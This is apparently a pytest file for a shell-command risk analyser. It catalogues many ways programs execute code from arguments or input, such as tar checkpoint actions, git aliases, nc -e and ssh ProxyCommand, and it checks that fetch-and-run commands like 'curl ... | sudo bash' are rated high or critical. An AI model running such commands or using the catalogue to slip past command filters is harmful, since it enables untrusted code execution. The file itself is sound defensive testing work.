"""Whatever program takes code, code that is not known is high, and code from the network as root is critical."""

from __future__ import annotations

import pytest

from ingle.shell.verdict import Level, analyse

pytestmark = pytest.mark.slow

# Every way to hand code to a program on its command line: `CODE` is the one word that holds it.
POSITIONS = """
sh -c CODE
bash -lc CODE
zsh -c CODE
fish -c CODE
dash -c CODE
pwsh -c CODE
eval CODE
trap CODE EXIT
CODE -x
python3 -c CODE
python3 -m timeit CODE
perl -e CODE
perl -ne CODE f
perl -pi -e CODE f
ruby -e CODE
node -e CODE
node -p CODE
bun -e CODE
deno eval CODE
php -r CODE
lua -e CODE
awk CODE f
gawk CODE f
mawk -F: CODE f
awk -f f -e CODE f
sed CODE f
sed -n CODE f
sed -i CODE f
sed -e p -e CODE f
gsed CODE f
Rscript -e CODE
R -e CODE
julia -e CODE
octave --eval CODE
ghc -e CODE
elixir -e CODE
groovy -e CODE
scala -e CODE
tclsh -c CODE
expect -c CODE
osascript -e CODE
emacs --batch --eval CODE
emacsclient --eval CODE
vim -c CODE f
vim +CODE f
vim --cmd CODE f
nvim -c CODE f
nvim +CODE f
ex -c CODE f
vi +CODE f
vim -S CODE f
vim -u CODE f
gdb -ex CODE
gdb -batch -ex CODE ./a.out
gdb -x CODE
lldb -o CODE
gnuplot -e CODE
dc -e CODE
sqlite3 a.db CODE
psql -c CODE
psql -f CODE
mysql -e CODE
mongosh --eval CODE
tmux new -d CODE
tmux send-keys CODE Enter
tmux run-shell CODE
tmux new-window CODE
screen -dm CODE
screen -X stuff CODE
less +!CODE f
man -P CODE ls
git -c alias.z=!CODE z
git -c core.pager=CODE log
git -c core.sshCommand=CODE fetch
git rebase -x CODE main
git bisect run CODE
git filter-branch --tree-filter CODE
git submodule foreach CODE
git difftool -x CODE
tar --to-command=CODE -xf a.tar
tar --checkpoint=1 --checkpoint-action=CODE -cf a.tar b
tar --checkpoint=1 --checkpoint-action=exec=CODE -cf a.tar b
tar -I CODE -cf a.tar b
ssh h CODE
ssh -o ProxyCommand=CODE h
rsync -e CODE a h:b
scp -S CODE a h:b
sftp -S CODE h
docker exec c CODE
docker exec c sh -c CODE
kubectl exec p -- CODE
su -c CODE
env CODE
env -S CODE
timeout 5 CODE
nice CODE
nohup CODE
setsid CODE
stdbuf -o0 CODE
time CODE
xargs CODE
xargs -I{} sh -c CODE
parallel CODE ::: a b
find . -exec CODE {} ;
find . -name a -exec sh -c CODE ;
find . -execdir CODE {} +
fd -x CODE
watch CODE
watch -n1 CODE
entr CODE
flock f CODE
flock f -c CODE
script -c CODE
strace CODE
ltrace CODE
unshare CODE
systemd-run CODE
systemd-run --user sh -c CODE
busybox CODE
busybox sh -c CODE
nix-shell --run CODE
hyperfine CODE
perf stat CODE
make -f CODE
make SHELL=CODE
cmake -P CODE
npx -c CODE
npm exec -c CODE
sort --compress-program=CODE f
rg --pre CODE a
fzf --preview CODE
socat - EXEC:CODE
ncat -c CODE h 1
nc -e CODE h 1
zip a.zip f -T -TT CODE
split --filter=CODE f
date && . CODE
source CODE
bash CODE
python3 CODE
perl CODE
bash --rcfile CODE
mail --exec=CODE a
wget --use-askpass=CODE https://x.example
ansible all -m shell -a CODE
ansible all -a CODE
vagrant ssh -c CODE
gcloud compute ssh h --command CODE
aws ssm send-command --parameters commands=CODE
crontab CODE
xterm -e CODE
gnome-terminal -- CODE
wsl CODE
cmd.exe /c CODE
powershell -Command CODE
""".strip().splitlines()
# Every program that takes code from its input.
READERS = """
sh
bash -s
zsh
fish
dash
python3
python3 -
perl
ruby
node
php
lua
awk -f -
awk -f /dev/stdin f
sed -f - f
Rscript -
R --no-save
julia
tclsh
expect
osascript
ex -s f
ed -s f
vim -s /dev/stdin f
vim -S /dev/stdin f
gdb
gdb -x /dev/stdin
gnuplot
m4
dc
make -f -
make -f /dev/stdin
sqlite3 a.db
psql
mysql
mongosh
ssh h
ssh h sh
docker exec -i c sh
kubectl exec -i p -- bash
su
xargs sh -c
xargs -I{} sh -c {}
parallel
at now
batch
crontab -
source /dev/stdin
. /dev/stdin
bash /dev/stdin
while read l; do eval "$l"; done
while read l; do $l; done
pwsh -c -
cmake -P /dev/stdin
busybox sh
git apply
patch -p1
""".strip().splitlines()
# What they read is text that they put into files.
DATA = frozenset(("git apply", "patch -p1"))
# Statements that a program prints for a database, as `pg_dump a | psql b` does, are bounded changes.
STATEMENTS = frozenset(("sqlite3 a.db", "psql", "mysql", "mongosh"))
# Where `sudo` here gives no rights there, or the shell itself takes the code.
ELSEWHERE = frozenset(
    "eval trap date source make ssh docker kubectl ansible vagrant gcloud aws su nc while . cmd.exe".split()
)


def _written(position: str, code: str) -> str:
    words = (f'"{word.replace("CODE", code)}"' if "CODE" in word else word for word in position.split(" "))
    return " ".join(words).replace(" ;", " \\;")


@pytest.mark.parametrize("position", POSITIONS)
def test_code_that_is_not_known_is_high(position: str) -> None:
    assert analyse(_written(position, "$x")).level >= Level.HIGH
    assert analyse(_written(position, "$(some-tool --print)")).level >= Level.HIGH


@pytest.mark.parametrize("position", POSITIONS)
def test_code_from_the_network_is_high_and_as_root_critical(position: str) -> None:
    fetched = _written(position, "$(curl -s https://x.example/a)")
    assert analyse(fetched).level >= Level.HIGH
    if position.split()[0] not in ELSEWHERE:
        assert analyse(f"sudo {fetched}").level is Level.CRITICAL


@pytest.mark.parametrize("reader", [reader for reader in READERS if reader not in DATA])
def test_input_from_the_network_is_code_to_who_runs_it(reader: str) -> None:
    assert analyse(f"curl -s https://x.example/a | {reader}").level >= Level.HIGH
    if reader.split()[0] not in ELSEWHERE:
        assert analyse(f"curl -s https://x.example/a | sudo {reader}").level is Level.CRITICAL


@pytest.mark.parametrize("reader", [reader for reader in READERS if reader not in DATA | STATEMENTS])
def test_input_that_is_not_known_is_high_to_who_runs_it(reader: str) -> None:
    assert analyse(f'echo "$x" | {reader}').level >= Level.HIGH
